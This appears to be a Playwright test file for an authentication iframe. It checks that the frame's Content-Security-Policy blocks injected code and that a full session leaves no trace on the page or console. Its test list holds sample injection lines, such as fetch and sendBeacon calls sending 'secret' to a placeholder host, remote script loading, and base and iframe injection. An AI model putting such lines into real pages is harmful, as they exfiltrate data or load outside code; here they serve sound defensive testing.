/** The frame's own Content-Security-Policy at work, and a whole session that leaves no trace on screen or console. */
import type { BrowserContext } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { readCreatedSessionKey } from '../../../services/auth-iframe/test/support/frame-under-test.ts'
import { findAuthFrame, openParent, type Stage, setStage } from './stage.ts'

let stage: Stage
let context: BrowserContext

beforeAll(async () => {
  stage = await setStage()
})
afterAll(() => stage.close())
beforeEach(async () => {
  context = await stage.browser.newContext()
})
afterEach(() => context.close())

/** What injected code might try; `TARGET` stands for a server elsewhere. */
const attempts: readonly (readonly [directive: string, code: string])[] = [
  ['connect-src', "fetch('TARGET').catch(() => undefined)"],
  ['connect-src', "navigator.sendBeacon('TARGET', 'secret')"],
  ['img-src', "new Image().src = 'TARGET'"],
  ['require-trusted-types-for', "document.body.innerHTML = '<b>text</b>'"],
  ['require-trusted-types-for', "document.createElement('script').src = 'TARGET'"],
  ['trusted-types', "trustedTypes.createPolicy('any', {})"],
  ['style-src-attr', "document.body.setAttribute('style', 'color: red')"],
  [
    'base-uri',
    "document.head.append(Object.assign(document.createElement('base'), { href: 'TARGET' })); document.baseURI",
  ],
  ['frame-src', "document.body.append(Object.assign(document.createElement('iframe'), { src: 'TARGET' }))"],
  ['require-trusted-types-for', "new Worker('/health')"],
  ['require-trusted-types-for', "setTimeout('1 + 1')"],
]

describe('inside the frame', () => {
  it.each(attempts)('%s forbids %s', async (directive, code) => {
    const { page } = await openParent(context, stage.app.origin, stage.frameUrl)
    const violated = await findAuthFrame(page, stage.frameUrl).evaluate(`new Promise((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
      try { ${code.replaceAll('TARGET', `${stage.unlisted.origin}/`)} } catch {}
    })`)
    expect(violated).toBe(directive)
  })
})

describe('a whole session', () => {
  it('leaves the page as it was and the console empty', async () => {
    const said: string[] = []
    context.on('console', (message) => said.push(message.text()))
    context.on('weberror', (error) => said.push(String(error.error())))
    const { page, ask } = await openParent(context, stage.app.origin, stage.frameUrl)
    const { credentialBundle } = readCreatedSessionKey((await ask('CREATE_SESSION_KEY')).value)
    await ask('INJECT_CREDENTIAL_BUNDLE', credentialBundle)
    await ask('STAMP_REQUEST', '{"note":"canary"}')
    await ask('STAMP_REQUEST', 'canary')
    await ask('RESET_EMBEDDED_KEY')
    const frame = findAuthFrame(page, stage.frameUrl)
    expect(await frame.content()).toBe(await renderedDocument())
    expect(said).toEqual([])
  })
})

/** The document as the browser shows it when nobody embeds it and so no message reaches it. */
async function renderedDocument(): Promise<string> {
  const page = await context.newPage()
  await page.goto(stage.frameUrl)
  return page.content()
}
